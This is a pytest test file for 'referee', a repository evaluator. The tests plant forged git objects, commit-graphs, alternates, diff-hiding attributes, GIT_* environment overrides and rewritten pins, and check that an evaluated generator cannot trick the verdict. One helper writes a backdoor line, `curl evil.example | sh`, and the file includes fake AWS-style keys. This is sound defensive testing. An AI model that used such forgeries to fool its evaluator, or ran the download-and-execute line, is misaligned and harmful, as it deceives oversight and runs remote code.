"""referee's git reads the evaluated repository's data only as data: the channels besides config.

test_git_config_attacks.py plants programs through git's configuration. The generator owns the
rest of `.git` as well, and the work tree's attributes: here each variant plants one of those
(a mark that makes the repository's own folder look like referee's, rewritten objects of the
base, a hostile alternate store, a forged commit-graph, attributes that make a diff see no lines,
index flags, a FIFO or a huge HEAD, rewritten pins, a linked worktree or a `.git` file with its
own hooks and config, the server's environment) and referee's loop, or the core it relies on, must
judge the content as it is. A planted program that runs leaves a marker file on the host.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import subprocess
import threading
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest
from edits import (
    BREAK,
    agent_for,
    both,
    bugfix_contract,
    calc_contract,
    py_check,
    python_project,
    replaced,
)
from forged import (
    forge_blob,
    forge_object,
    loose,
    raw_object,
    refused_as_rewritten,
    refused_loop,
)
from gitrepo import git, make_repo
from mcp_calls import call
from planted import every_key, program, ran
from projects import BUG_BASE, apply_bugfix, bugfix_criteria, bugfix_repo, calc_repo

from referee.server.cli import main as cli
from referee.tools.repo import changed_files, changed_lines, commit_tree_hash, working_tree_hash
from referee.tools.repo.gitdir import private_git_dir

pytestmark = pytest.mark.anyio

KEY_ID = "AKIA" + "Z7XQ3MPLR4KWNB2T"
KEY_SECRET = "wJalrXUtnFEMI" + "K7MDENGbPxRfiCYzQ8Lw3Nv5"


@pytest.fixture
def markers(tmp_path: Path) -> Path:
    folder = tmp_path / "markers"
    folder.mkdir()
    return folder


def base_blob(repo: Path, path: str) -> str:
    return git(repo, "rev-parse", f"HEAD:{path}")


# --- the base's objects, rewritten ------------------------------------------------------------


async def test_a_rewritten_base_test_object_is_not_the_base_form(tmp_path: Path) -> None:
    """The change breaks `add` and rewrites test_add's expected value; then the loose object of
    the base's test file is overwritten with the edited text, so the base form is the edit.
    referee checks every object it reads against its name: the evaluation is refused
    (`bad_object`, naming the object and the path), no verdict is built on the forgery."""
    repo = python_project(tmp_path)
    sha = base_blob(repo, "tests/test_calc.py")
    edit = replaced("tests/test_calc.py", "== 3", "== -1")

    def forge(root: Path) -> None:
        forge_blob(root / ".git" / "objects", sha, (root / "tests/test_calc.py").read_bytes())

    await refused_loop(repo, both(BREAK, edit, forge), py_check())


async def test_a_hostile_alternate_store_is_not_the_base(tmp_path: Path) -> None:
    """The same through `objects/info/alternates`: the base's test object is removed from the
    repository's store and served, edited, by a store the generator points to."""
    repo = python_project(tmp_path)
    sha = base_blob(repo, "tests/test_calc.py")
    hostile = tmp_path / "hostile-objects"
    edit = replaced("tests/test_calc.py", "== 3", "== -1")

    def forge(root: Path) -> None:
        forge_blob(hostile, sha, (root / "tests/test_calc.py").read_bytes())
        loose(root, sha).unlink()
        (root / ".git" / "objects" / "info" / "alternates").write_text(f"{hostile}\n")

    await refused_loop(repo, both(BREAK, edit, forge), py_check())


async def test_a_rewritten_base_source_object_proves_no_fail_before(tmp_path: Path) -> None:
    """A test that already passes at base proves nothing about the fix; rewriting the base's
    source object (so that the base returns 1) would make it fail there: refused instead."""
    repo = bugfix_repo(tmp_path / "calc")
    sha = base_blob(repo, "src/calc.py")
    async with agent_for(repo) as agent:
        cid = await bugfix_contract(agent, bugfix_criteria()[1:2])
        apply_bugfix(repo, trivial=True)
        forged = BUG_BASE.replace("return a - b if b < 0 else a + b", "return 1")
        forge_blob(repo / ".git" / "objects", sha, forged.encode())
        refused_as_rewritten(await agent.call_tool("evaluate", {"contract_id": cid}))


def test_a_forged_commit_graph_does_not_change_the_base_tree(tmp_path: Path) -> None:
    """A commit-graph file whose record of the base names another tree (checksum recomputed):
    git's rev-list trusts it, referee's base tree and changed files do not."""
    repo = make_repo(tmp_path / "r", {"a.txt": "base\n"})
    base = git(repo, "rev-parse", "HEAD")
    real = git(repo, "rev-parse", "HEAD^{tree}")
    (repo / "a.txt").write_text("other\n")
    git(repo, "commit", "-qam", "other")
    other = git(repo, "rev-parse", "HEAD^{tree}")
    git(repo, "commit-graph", "write", "--reachable")
    _forge_graph_tree(repo, base, other)
    assert git(repo, "log", "-1", "--format=%T", base) == other  # git itself is fooled
    assert commit_tree_hash(repo, base) == real
    assert changed_files(repo, base, other) == ["a.txt"]


def _forge_graph_tree(repo: Path, commit: str, tree: str) -> None:
    path = repo / ".git" / "objects" / "info" / "commit-graph"
    data = bytearray(path.read_bytes())
    chunks = {
        bytes(data[8 + 12 * i : 12 + 12 * i]): int.from_bytes(data[12 + 12 * i : 20 + 12 * i])
        for i in range(data[6] + 1)
    }
    oids, cdat = chunks[b"OIDL"], chunks[b"CDAT"]
    count = (cdat - oids) // 20
    names = [bytes(data[oids + 20 * i : oids + 20 * i + 20]).hex() for i in range(count)]
    at = cdat + 36 * names.index(commit)
    data[at : at + 20] = bytes.fromhex(tree)
    data[-20:] = hashlib.sha1(bytes(data[:-20])).digest()
    path.chmod(0o644)
    path.write_bytes(bytes(data))


# --- the repository's folder passed off as referee's -------------------------------------------


def test_a_planted_objects_mark_does_not_make_the_repository_folder_referees(
    tmp_path: Path,
) -> None:
    """referee recognises a git folder it made by a file in it (`referee-objects`): planted in
    the repository's `.git`, it would make git run with GIT_DIR=.git, its config and info/ read."""
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    (repo / ".git" / "referee-objects").write_text(str(repo / ".git" / "objects"))
    private = private_git_dir(repo)
    assert repo / ".git" not in (private.path, *private.path.parents), private.env()


def test_a_gitdir_file_that_leads_to_a_marked_folder_is_not_trusted(tmp_path: Path) -> None:
    """The same mark reached through a `.git` file (`gitdir: <folder>`), the layout of a linked
    worktree or a submodule."""
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    hidden = tmp_path / "elsewhere.git"
    (repo / ".git").rename(hidden)
    (repo / ".git").write_text(f"gitdir: {hidden}\n")
    (hidden / "referee-objects").write_text(str(hidden / "objects"))
    private = private_git_dir(repo)
    assert hidden not in (private.path, *private.path.parents), private.env()


# --- attributes that make a diff see no lines -------------------------------------------------

Plant = Callable[[Path, pytest.MonkeyPatch], None]


def _tracked(text: str, where: str = ".gitattributes") -> Plant:
    def plant(repo: Path, _: pytest.MonkeyPatch) -> None:
        (repo / where).write_text(text)

    return plant


def _user_attributes(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    config = repo.parent / "xdg"
    (config / "git").mkdir(parents=True)
    (config / "git" / "attributes").write_text("*.py -diff\n")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(config))


def _info_with_mark(repo: Path, _: pytest.MonkeyPatch) -> None:
    (repo / ".git" / "info" / "attributes").write_text("*.py -diff\n")
    (repo / ".git" / "referee-objects").write_text(str(repo / ".git" / "objects"))


def _big_file_threshold_with_mark(repo: Path, _: pytest.MonkeyPatch) -> None:
    with (repo / ".git" / "config").open("a") as out:
        out.write("[core]\n\tbigFileThreshold = 1\n")
    (repo / ".git" / "referee-objects").write_text(str(repo / ".git" / "objects"))


BINARY: dict[str, Plant] = {
    "tracked-minus-diff": _tracked("*.py -diff\n"),
    "tracked-binary-macro": _tracked("src/** binary\n"),
    "subfolder-attributes": _tracked("*.py -diff\n", "src/.gitattributes"),
    "user-xdg-attributes": _user_attributes,
    "info-attributes-with-mark": _info_with_mark,
    "big-file-threshold-with-mark": _big_file_threshold_with_mark,
}


@pytest.mark.parametrize("channel", sorted(BINARY))
def test_attributes_cannot_hide_the_changed_lines(
    channel: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    repo = make_repo(tmp_path / "r", {"src/app.py": "a = 1\nb = 2\n"})
    base = git(repo, "rev-parse", "HEAD")
    (repo / "src" / "app.py").write_text("a = 1\nb = 3\nc = 4\n")
    BINARY[channel](repo, monkeypatch)
    tree = working_tree_hash(repo)
    assert changed_lines(repo, base, tree).get("src/app.py") == {2, 3}


def test_a_nul_byte_cannot_hide_the_changed_lines_of_a_script(tmp_path: Path) -> None:
    """git calls a file with a NUL byte in its first 8000 bytes binary; node runs such a file
    (the byte in a comment), so its changed lines would vanish from diff coverage and the
    static split."""
    repo = make_repo(tmp_path / "r", {"src/app.js": "// \0\nlet a = 1;\nlet b = 2;\n"})
    base = git(repo, "rev-parse", "HEAD")
    (repo / "src" / "app.js").write_text("// \0\nlet a = 1;\nlet b = 3;\n")
    tree = working_tree_hash(repo)
    assert changed_lines(repo, base, tree).get("src/app.js") == {3}


CONVERSIONS = {
    "eol-crlf": "*.py text eol=crlf\n",
    "ident": "*.py ident\n",
    "working-tree-encoding": "*.py working-tree-encoding=UTF-16LE\n",
}


@pytest.mark.parametrize("attribute", sorted(CONVERSIONS))
def test_conversion_attributes_do_not_change_the_tree_hash(attribute: str, tmp_path: Path) -> None:
    """The tree is hashed from the bytes on disk: no attribute converts them first."""
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    content = b"x = 2\r\n# $Id$\n"
    (repo / "a.py").write_bytes(content)
    (repo / ".gitattributes").write_text(CONVERSIONS[attribute])
    tree = working_tree_hash(repo)
    blob = hashlib.sha1(b"blob %d\0" % len(content) + content).hexdigest()
    assert git(repo, "rev-parse", f"{tree}:a.py") == blob


# --- the last piece of git data git might trust: the index -----------------------------------

INDEX_FLAGS = {"assume-unchanged": "--assume-unchanged", "skip-worktree": "--skip-worktree"}


@pytest.mark.parametrize("flag", sorted(INDEX_FLAGS))
def test_index_flags_do_not_hide_a_change(flag: str, tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    base = git(repo, "rev-parse", "HEAD")
    git(repo, "update-index", INDEX_FLAGS[flag], "a.py")
    (repo / "a.py").write_text("x = 2\n")
    tree = working_tree_hash(repo)
    assert changed_files(repo, base, tree) == ["a.py"]


def test_a_shallow_file_naming_the_base_changes_nothing(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    (repo / "a.py").write_text("x = 2\n")
    git(repo, "commit", "-qam", "second")
    base = git(repo, "rev-parse", "HEAD~1")
    (repo / ".git" / "shallow").write_text(git(repo, "rev-parse", "HEAD") + "\n")
    assert changed_files(repo, base, working_tree_hash(repo)) == ["a.py"]


# --- files in .git that hang or flood referee --------------------------------------------------


def test_a_fifo_head_does_not_hang_referee(tmp_path: Path) -> None:
    """A FIFO as `.git/HEAD` blocks whoever opens it for reading until a writer comes. The test
    plays the writer only once referee's reader is there, so it never blocks, and fails then."""
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    head = repo / ".git" / "HEAD"
    head.unlink()
    os.mkfifo(head)
    failure: list[BaseException] = []

    def open_it() -> None:
        try:
            private_git_dir(repo)
        except BaseException as exc:
            failure.append(exc)

    worker = threading.Thread(target=open_it, daemon=True)
    worker.start()
    reader_came = False
    while worker.is_alive():
        try:
            fd = os.open(head, os.O_WRONLY | os.O_NONBLOCK)
        except OSError as exc:
            assert exc.errno == errno.ENXIO  # no reader yet
            worker.join(0.05)
            continue
        reader_came = True  # referee reads HEAD more than once: serve each read
        os.write(fd, b"ref: refs/heads/main\n")
        os.close(fd)
    assert not reader_came, "referee opened the FIFO .git/HEAD and waited for a writer"


def test_a_huge_head_is_not_read_whole(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    head = repo / ".git" / "HEAD"
    with head.open("r+b") as out:
        out.truncate(64 * 1024 * 1024)  # sparse: no disk used
    tracemalloc.start()
    try:
        private_git_dir(repo)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * 1024 * 1024, f"{peak} bytes allocated to read a 64 MiB HEAD"


def test_refs_packed_after_referee_first_looked_are_still_seen(tmp_path: Path) -> None:
    """A long-running server made its git folder when the repository had no packed-refs file;
    `git gc` (or the generator) then packs the refs: the branches and pins must not vanish."""
    from referee.tools.repo import resolve_commit

    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    head = git(repo, "rev-parse", "HEAD")
    assert resolve_commit(repo, "main") == head
    git(repo, "pack-refs", "--all")
    assert resolve_commit(repo, "main") == head


def test_symlinked_refs_are_refused_as_data(tmp_path: Path) -> None:
    from referee.tools.repo.gitdir import UnsafeGitEntry

    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    refs = repo / ".git" / "refs"
    refs.rename(tmp_path / "refs-elsewhere")
    refs.symlink_to(tmp_path / "refs-elsewhere")
    with pytest.raises(UnsafeGitEntry):
        private_git_dir(repo)


HEAD_GONE: dict[str, Callable[[Path], None]] = {
    "head-deleted": lambda head: head.unlink(),
    "head-a-folder": lambda head: (head.unlink(), head.mkdir()),  # type: ignore[func-returns-value]
}


@pytest.mark.slow
@pytest.mark.parametrize("how", sorted(HEAD_GONE))
async def test_a_repository_without_head_is_not_judged_as_a_plain_folder(
    how: str, tmp_path: Path
) -> None:
    """Without `.git/HEAD` referee takes the repository for a folder outside git: no base, so no
    base form of an edited test. The evaluation must refuse (an error naming the cause) or fail
    the criterion, not crash and not pass; the generator restores HEAD afterwards."""
    repo = python_project(tmp_path)
    async with agent_for(repo) as agent:
        cid = await calc_contract(agent, py_check())
        both(BREAK, replaced("tests/test_calc.py", "== 3", "== -1"))(repo)
        HEAD_GONE[how](repo / ".git" / "HEAD")
        done = await agent.call_tool("evaluate", {"contract_id": cid})
    if done.is_error:
        text = " ".join(getattr(c, "text", "") for c in done.content)
        assert "Error executing tool" not in text, text  # a crash, not a reason
        return
    assert done.structured_content is not None
    assert done.structured_content["criteria"][0]["status"] != "pass"


# --- other layouts of the git folder, and the server's environment ----------------------------


def _as_linked_worktree(tmp_path: Path, markers: Path) -> Path:
    """The evaluated repository is a linked worktree whose own git folder (worktrees/<name>)
    carries a config.worktree and hooks of the generator's."""
    main = bugfix_repo(tmp_path / "main")
    git(main, "worktree", "add", "-q", str(tmp_path / "wt"), "-b", "wt")
    worktree = tmp_path / "wt"
    own = Path(git(worktree, "rev-parse", "--git-dir"))
    (own / "config.worktree").write_text(every_key(markers, "linked"))
    with (main / ".git" / "config").open("a") as out:
        out.write("[extensions]\n\tworktreeConfig = true\n[core]\n\trepositoryformatversion = 1\n")
    (own / "info").mkdir(exist_ok=True)
    (own / "info" / "attributes").write_text("*.py filter=evil diff=evil\n")
    return worktree


def _behind_a_gitdir_file(tmp_path: Path, markers: Path) -> Path:
    """The repository's `.git` is a file leading to a folder inside the tree, as a submodule's
    does, whose config names the generator's programs."""
    repo = bugfix_repo(tmp_path / "calc")
    (repo / ".git").rename(repo / ".modules-calc")
    (repo / ".git").write_text("gitdir: .modules-calc\n")
    with (repo / ".modules-calc" / "config").open("a") as out:
        out.write(every_key(markers, "gitfile"))
    (repo / ".modules-calc" / "info").mkdir(exist_ok=True)
    (repo / ".modules-calc" / "info" / "attributes").write_text("*.py filter=evil diff=evil\n")
    return repo


LAYOUTS = {"linked-worktree": _as_linked_worktree, "gitdir-file": _behind_a_gitdir_file}


@pytest.mark.parametrize("layout", sorted(LAYOUTS))
async def test_other_layouts_of_the_git_folder_run_nothing(
    layout: str, tmp_path: Path, markers: Path
) -> None:
    repo = LAYOUTS[layout](tmp_path, markers)
    async with agent_for(repo) as agent:
        cid = await bugfix_contract(agent, bugfix_criteria()[:1])
        apply_bugfix(repo)
        result = await call(agent, "evaluate", contract_id=cid)
    assert result["criteria"][0]["status"] == "pass", result["criteria"]
    assert "src/calc.py" in result["target"]["changed_files"]
    assert ran(markers) == []


def test_git_variables_in_the_servers_environment_steer_nothing(
    tmp_path: Path, markers: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """GIT_* variables referee inherits (a shell that set them, a generator that reached the
    server's environment) are dropped: config passed by environment, another GIT_DIR, index or
    work tree, an exec path."""
    repo = make_repo(tmp_path / "r", {"a.py": "x = 1\n"})
    base = git(repo, "rev-parse", "HEAD")
    (repo / "a.py").write_text("x = 2\n")
    decoy = make_repo(tmp_path / "decoy", {"b.py": "y = 1\n"})
    evil = program(markers, "env-fsmonitor")
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "core.fsmonitor")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", evil)
    monkeypatch.setenv("GIT_CONFIG_PARAMETERS", f"'core.hookspath'='{markers}'")
    monkeypatch.setenv("GIT_DIR", str(decoy / ".git"))
    monkeypatch.setenv("GIT_WORK_TREE", str(decoy))
    monkeypatch.setenv("GIT_INDEX_FILE", str(decoy / ".git" / "index"))
    monkeypatch.setenv("GIT_EXEC_PATH", str(markers))
    assert changed_files(repo, base, working_tree_hash(repo)) == ["a.py"]
    assert ran(markers) == []


# --- pins the generator rewrites ----------------------------------------------------------------


PIN_CHANNELS = ("loose-ref", "packed-refs", "symbolic-ref", "commit-object")


@pytest.mark.parametrize("channel", PIN_CHANNELS)
def test_checkout_restores_only_what_was_evaluated(
    channel: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`referee checkout` writes back the pinned tree of an iteration. The pins are refs in the
    generator's `.git`: rewritten to another commit, checkout would hand the user a tree no
    evaluation saw (a backdoor next to the delivered fix)."""
    repo = calc_repo(tmp_path / "calc")
    git(repo, "pack-refs", "--all")  # a packed-refs file from the start, as after any `git gc`
    home = ["--root", str(repo)]
    source = tmp_path / "contract.json"
    source.write_text(
        json.dumps(
            {
                "goal": "Keep adding right.",
                "out_of_scope": ["other operations"],
                "functional": [
                    {
                        "criterion": "tests pass",
                        "verification_method": "test",
                        "check": py_check(),
                    }
                ],
            }
        )
    )
    capsys.readouterr()
    assert cli([*home, "contract", "create", str(source), "--json"]) == 0
    cid = json.loads(capsys.readouterr().out)["contract"]["id"]
    (repo / "src" / "calc.py").write_text("def add(a, b):\n    return b + a\n")
    assert cli([*home, "evaluate", cid, "--json"]) in (0, 1)
    evaluated = json.loads(capsys.readouterr().out)["target"]["tree"]
    evil = _forged_pin(repo, cid, channel)
    assert cli([*home, "checkout", cid, "--iteration", "1", "--force"]) in (0, 1, 2)
    capsys.readouterr()
    assert working_tree_hash(repo) == evaluated, "checkout restored a tree no evaluation saw"
    assert evil not in (repo / "src" / "calc.py").read_text()


def _forged_pin(repo: Path, cid: str, channel: str) -> str:
    backdoor = "import os\nos.system('curl evil.example | sh')\n"
    index = repo.parent / "forge.index"
    env = {**os.environ, "GIT_INDEX_FILE": str(index)}
    ref = f"refs/referee/{cid}/1"

    def run(*args: str, data: str | None = None) -> str:
        done = subprocess.run(
            ["git", *args], cwd=repo, env=env, input=data, capture_output=True, text=True
        )
        assert done.returncode == 0, done.stderr
        return done.stdout.strip()

    if channel == "commit-object":  # the ref left alone, its commit rewritten to wrap another
        pinned, tree = run("rev-parse", ref), run("rev-parse", f"{ref}^{{tree}}")
        other = run("rev-parse", "HEAD^{tree}")
        body = raw_object(repo, pinned).replace(tree.encode(), other.encode())
        forge_object(repo / ".git" / "objects", pinned, "commit", body)
        return "return a + b"  # HEAD's calc.py, which no evaluation saw
    run("read-tree", ref)
    text = (repo / "src" / "calc.py").read_text() + backdoor
    blob = run("hash-object", "-w", "--stdin", data=text)
    run("update-index", "--cacheinfo", f"100644,{blob},src/calc.py")
    tree = run("write-tree")
    commit = run("commit-tree", tree, "-m", "iteration 1", "-p", run("rev-parse", ref))
    if channel == "loose-ref":
        (repo / ".git" / ref).write_text(commit + "\n")
    elif channel == "symbolic-ref":  # the pin left in place as a name, leading to a branch
        run("update-ref", "refs/heads/iteration-1", commit)
        (repo / ".git" / ref).write_text("ref: refs/heads/iteration-1\n")
    else:
        (repo / ".git" / ref).unlink()
        with (repo / ".git" / "packed-refs").open("a") as out:
            out.write(f"{commit} {ref}\n")
    return backdoor
